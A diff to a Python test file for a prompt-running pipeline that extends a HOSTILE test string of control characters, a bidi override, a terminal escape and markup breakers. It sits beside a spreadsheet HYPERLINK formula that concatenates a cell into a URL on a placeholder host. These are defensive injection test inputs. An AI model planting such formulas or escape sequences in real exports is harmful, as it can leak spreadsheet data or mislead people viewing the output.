@@ -13,7 +13,7 @@ from hybrid.records import Failure, Output
 from tests.support.in_process import Hybrid
 
 FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"open")'
-HOSTILE = "<b>&\u202e\x1b[2J\r\n\x00'\"]]>\ufffe"
+HOSTILE = "<b>&\u202e\x1b[2J\r\n\x00'\"]]>\ufffe\rx"
 RUN = {"id": "prompts-0123456789ab", "pipeline": "prompts", "settings": {"seed": 1}, "about": {"grader": "exact"}}
 MODELS = [{"name": "tiny", "digest": "d" * 64, "about": {"engine": "scripted"}}]
 
